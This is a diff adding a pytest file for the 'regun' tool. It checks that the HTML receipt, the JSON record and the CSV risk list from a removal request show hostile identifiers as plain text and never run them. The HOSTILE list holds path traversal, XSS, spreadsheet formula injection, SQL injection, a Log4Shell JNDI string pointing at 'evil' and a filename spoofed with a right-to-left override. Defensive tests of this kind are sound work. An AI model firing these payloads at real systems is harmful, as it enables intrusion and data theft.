@@ -1,0 +1,130 @@
+"""The page and the list of risks: whatever an id, a reason or a reference holds, it is shown and never run."""
+
+import csv
+import io
+import json
+import re
+from html import unescape
+from html.parser import HTMLParser
+from pathlib import Path
+
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+from small_project import EASY, QUICK, SIZES, ids, project
+
+import regun
+from regun.requests import Options
+from regun.requests.page import page
+
+HOSTILE = [
+    "../../../etc/passwd",
+    "/tmp/x",
+    "..\\..\\boot.ini",
+    "<script>alert(1)</script>",
+    "\"><img src=x onerror=alert(1)>",
+    "=HYPERLINK(\"http://evil\",\"x\")",
+    "+1+1",
+    "-2",
+    "@SUM(A1)",
+    "\t=1",
+    "'; DROP TABLE ids; --",
+    "${jndi:ldap://evil}",
+    "{0.__class__}",
+    "%s%s%n",
+    "a\nb",
+    "ledger.jsonl",
+    "\u202egnp.exe",
+    "😀" * 20,
+]  # fmt: skip
+
+
+class Reader(HTMLParser):
+    """The tags and attributes of a page, and its visible text."""
+
+    def __init__(self, text: str) -> None:
+        super().__init__()
+        self.tags: set[str] = set()
+        self.attributes: set[str] = set()
+        self.shown = ""
+        self.feed(text)
+
+    def handle_starttag(self, tag: str, attrs: list) -> None:
+        self.tags.add(tag)
+        self.attributes |= {name for name, _ in attrs}
+
+    def handle_data(self, data: str) -> None:
+        self.shown += data
+
+
+TAGS = {"html", "head", "meta", "title", "style", "body", "h1", "h2", "p", "div", "section", "span", "b"} | {
+    "table", "tr", "th", "td", "ul", "li", "code",
+}  # fmt: skip
+ATTRIBUTES = {"lang", "charset", "http-equiv", "content", "class"}
+
+
+@pytest.fixture(scope="module")
+def hostile(tmp_path_factory: pytest.TempPathFactory) -> Path:
+    out = tmp_path_factory.mktemp("hostile") / "out"
+    names = [*HOSTILE, *(f"plain-{n}" for n in range(SIZES["train"] - len(HOSTILE)))]
+    asked = regun.requests.Asked(
+        tuple(regun.requests.Line(one, reason=one, requester=one, date=one) for one in HOSTILE)
+    )
+    regun.forget(project(ids=names, unseen_ids={}, method=QUICK), asked, out, Options(accept=EASY))
+    return out
+
+
+def test_nothing_is_written_but_what_belongs_there(hostile: Path) -> None:
+    found = {str(p.relative_to(hostile.parent)) for p in hostile.parent.rglob("*") if p.is_file()}
+    names = ("model.safetensors", "receipt.html", "receipt.json", "request.json", "risks.csv")
+    assert found == {"out/ledger.jsonl", "out/.lock"} | {f"out/requests/0001/{name}" for name in names}
+
+
+def test_the_page_runs_nothing_and_loads_nothing(hostile: Path) -> None:
+    text = (hostile / "requests/0001/receipt.html").read_text()
+    reader = Reader(text)
+    assert reader.tags <= TAGS
+    assert reader.attributes <= ATTRIBUTES
+    assert 'http-equiv="Content-Security-Policy" content="default-src \'none\'; style' in unescape(text)
+    assert not re.search(r"https?:|src=|@import|url\(", text.replace(HOSTILE[5], ""))
+    assert "<script>alert(1)" in reader.shown
+    assert "<script" not in text
+
+
+@settings(deadline=None, max_examples=50)
+@given(st.text(max_size=80), st.text(max_size=80))
+def test_any_text_is_shown_as_text(hostile: Path, one: str, other: str) -> None:
+    receipt = json.loads((hostile / "requests/0001/receipt.json").read_text())
+    receipt["request"]["first_ids"][0] = one
+    receipt["request"]["reasons"]["most_common"][0][0] = other
+    receipt["model"]["class"] = receipt["acceptance"]["rule"] = receipt["limits"][0] = one
+    receipt["acceptance"]["findings"][0]["why"] = other
+    reader = Reader(page(receipt))
+    assert reader.tags <= TAGS
+    assert reader.attributes <= ATTRIBUTES
+
+
+def test_a_spreadsheet_shows_ids_and_runs_none(hostile: Path) -> None:
+    rows = list(csv.reader(io.StringIO((hostile / "requests/0001/risks.csv").read_bytes().decode(), newline="")))
+    cells = [cell for row in rows[1:] for cell in row]
+    assert not [cell for cell in cells if cell.lstrip()[:1] in tuple("=+-@")]
+    assert {row[0].removeprefix("'") if row[0][1:2] in "=+-@\t" else row[0] for row in rows[1:]} == set(HOSTILE)
+
+
+def test_ids_are_kept_whole_where_machines_read_them(hostile: Path) -> None:
+    stored = json.loads((hostile / "requests/0001/request.json").read_text())
+    assert [line["id"] for line in stored["lines"]] == HOSTILE
+    assert [line["reason"] for line in stored["lines"]] == HOSTILE
+
+
+def test_a_long_request_stays_on_one_page(tmp_path: Path) -> None:
+    asked = regun.requests.Asked(
+        tuple(regun.requests.Line(one, "r" * 900, f"ticket {one}" * 50, one) for one in ids()[:100])
+    )
+    done = regun.forget(project(method=QUICK), asked, tmp_path, Options(accept=EASY))
+    shown = Reader((tmp_path / "requests/0001/receipt.html").read_text()).shown
+    assert "and 96 more" in shown
+    assert "and 98 others" in shown
+    assert "r" * 39 in shown
+    assert "r" * 40 not in shown
+    assert done.receipt["request"]["requesters"]["different"] == 100
